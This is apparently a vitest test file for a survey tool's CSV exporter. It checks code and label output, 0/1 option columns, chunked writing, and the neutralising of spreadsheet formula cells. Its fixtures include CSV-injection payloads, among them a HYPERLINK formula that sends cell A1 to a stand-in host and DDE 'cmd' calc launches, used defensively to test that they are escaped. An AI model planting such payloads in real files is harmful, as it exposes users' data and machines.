// CSV exports: codes and labels, options as 0/1 columns, and cells a spreadsheet would run as
// formulas neutralised, read back as the text the respondent typed; the same text written whole
// and chunk by chunk, and as one csvLine per row would write it.
import { describe, expect, it } from 'vitest';
import { answerColumn } from '../analysis/answer-columns.js';
import { chunkedOf, shapeOf, sliceRows } from '../analysis/chunked.js';
import {
  columnText,
  numberColumn,
  type Column,
  type Dataset,
  type ValueLabel,
} from '../analysis/dataset.js';
import { readCsv } from './csv-read.js';
import { csvExportLines, csvWriter, type CsvExportOptions } from './csv-export.js';
import { csvLine } from './csv-write.js';
import { writeChunked, writeWhole } from './table-writer.js';

const typed = [
  '=HYPERLINK("http://x.example/?q="&A1,"click")',
  "+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '-2+3',
  'Москва, «ул. Тверская», 7',
  '-3',
];
const data: Dataset = {
  n: typed.length,
  columns: new Map([
    ['comments', answerColumn(typed, { name: 'comments', kind: 'text' })],
    [
      'trust',
      answerColumn(['most', 'careful', 'most', null, 'careful', 'most'], {
        name: 'trust',
        kind: 'select_one',
        choices: [
          { name: 'most', code: 1, label: { en: 'Most can be trusted', ru: 'Можно доверять' } },
          { name: 'careful', code: 2, label: { en: 'Be careful', ru: 'Осторожность' } },
        ],
      }),
    ],
    [
      'reasons',
      answerColumn([['a'], ['a', 'b'], null, [], ['b'], ['a']], {
        name: 'reasons',
        kind: 'select_multiple',
        choices: [
          { name: 'a', code: 1, label: { en: 'A' } },
          { name: 'b', code: 2, label: { en: 'B' } },
        ],
      }),
    ],
  ]),
};

describe('csvExportLines', () => {
  it('neutralises every cell a spreadsheet would run, and keeps the text readable back', () => {
    const text = [...csvExportLines(data, { language: 'en' })].join('');
    const back = readCsv(text, 'x.csv');
    expect(columnText(back, 'comments')).toEqual([
      `'${typed[0]}`,
      `'${typed[1]}`,
      `'${typed[2]}`,
      `'${typed[3]}`,
      typed[4],
      '-3', // a plain negative number is left as it is
    ]);
    // No line starts a cell with a formula character unprotected.
    for (const line of text.split('\r\n').slice(1))
      for (const cell of line.split(',')) expect(cell).not.toMatch(/^"?[=+@]/);
  });

  it('writes codes or labels, and each option as a 0/1 column', () => {
    const codes = readCsv([...csvExportLines(data, { language: 'en' })].join(''), 'c.csv');
    expect([...codes.columns.keys()]).toEqual(['comments', 'trust', 'reasons_a', 'reasons_b']);
    expect(columnText(codes, 'trust')).toEqual(['1', '2', '1', null, '2', '1']);
    expect(columnText(codes, 'reasons_a')).toEqual(['1', '1', null, null, '0', '1']);
    expect(columnText(codes, 'reasons_b')).toEqual(['0', '1', null, null, '1', '0']);
    const ru = [...csvExportLines(data, { language: 'ru', labels: true, bom: true })].join('');
    expect(ru.charCodeAt(0)).toBe(0xfeff);
    expect(columnText(readCsv(ru, 'l.csv'), 'trust')[0]).toBe('Можно доверять');
  });
});

/** The rows as the writer's first version made them: one `csvLine` of cells per row. */
function reference(d: Dataset, o: CsvExportOptions): string {
  const say = (l: ValueLabel): string =>
    l.label?.[o.language] ?? Object.values(l.label ?? {})[0] ?? l.name ?? String(l.code);
  let out = '';
  for (let i = 0; i < d.n; i++) {
    const cells: (string | null)[] = [];
    for (const c of d.columns.values()) {
      if (c.type === 'number') {
        const v = c.values[i]!;
        const l = c.labels.find((x) => x.code === v);
        cells.push(Number.isNaN(v) ? null : o.labels && l ? say(l) : String(v));
      } else if (c.type === 'text') cells.push(c.index[i]! < 0 ? null : c.levels[c.index[i]!]!);
      else
        for (let j = 0; j < c.options.length; j++)
          cells.push(c.answered[i] ? String(c.chosen[i * c.options.length + j]) : null);
    }
    out += csvLine(cells);
  }
  return out;
}

async function chunked(d: Dataset, o: CsvExportOptions, rows: number): Promise<string> {
  let out = '';
  for await (const part of writeChunked(csvWriter(shapeOf(d), o), chunkedOf(d, rows)))
    out += part as string;
  return out;
}

describe('csvWriter', () => {
  // The first five rows of `data`, with numbers, texts to quote or neutralise, and a multiple
  // choice without options (no CSV column).
  const both: Dataset = {
    n: 5,
    columns: new Map<string, Column>([
      ...sliceRows(data, 0, 5).columns,
      ['amount', numberColumn(Float64Array.from([1.5, -2, NaN, -1e-7, 1e21]))],
      [
        'said',
        answerColumn(['a, "b"', 'two\nlines', '=HYPERLINK("x")', null, '@x'], {
          name: 'said',
          kind: 'text',
        }),
      ],
      [
        'none',
        {
          type: 'multiple',
          options: [],
          chosen: new Uint8Array(0),
          answered: new Uint8Array(5).fill(1),
          info: { measure: 'nominal' },
        },
      ],
    ]),
  };
  const options: CsvExportOptions[] = [
    { language: 'en' },
    { language: 'ru', labels: true },
    { language: 'en', labels: true, bom: true },
  ];

  it('writes the same text whole and in chunks of 1, 3 and more rows than there are', async () => {
    for (const o of options) {
      const whole = [...csvExportLines(both, o)].join('');
      expect(whole).toBe([...writeWhole(csvWriter(shapeOf(both), o), both)].join(''));
      for (const size of [1, 3, 100]) expect(await chunked(both, o, size)).toBe(whole);
    }
  });

  it('writes the lines one csvLine per row would, header first', () => {
    for (const o of options) {
      const [header, ...body] = [...csvExportLines(both, o)];
      expect(header).toBe(
        (o.bom ? '\ufeff' : '') +
          csvLine(['comments', 'trust', 'reasons_a', 'reasons_b', 'amount', 'said']),
      );
      expect(body.join('')).toBe(reference(both, o));
    }
    const text = [...csvExportLines(both, { language: 'en' })].join('');
    expect(text).toContain(`,"a, ""b"""\r\n`);
    expect(text).toContain(`,"two\nlines"\r\n`);
    expect(text).toContain(`,"'=HYPERLINK(""x"")"\r\n`);
    expect(text).toContain(",'-1e-7,\r\n");
    expect(text).toContain(",'@x\r\n");
    expect(text).toContain(',1e+21,');
  });

  it('writes a header alone for no rows', async () => {
    const none = shapeOf(both);
    expect(await chunked(none, { language: 'en' }, 3)).toBe(
      [...csvExportLines(none, { language: 'en' })].join(''),
    );
    expect([...csvExportLines(none, { language: 'en' })]).toHaveLength(1);
  });
});
